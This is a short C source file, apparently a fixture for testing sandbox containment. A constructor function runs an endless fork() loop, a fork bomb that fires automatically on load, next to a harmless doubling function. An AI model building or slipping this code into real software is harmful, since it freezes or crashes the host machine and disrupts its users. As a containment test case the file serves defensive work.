// attack: fork bomb | expect: contained | alone
#include <unistd.h>

__attribute__((constructor)) static void bomb(void) {
    for (;;) fork();
}

int twice(int n) { return 2 * n; }
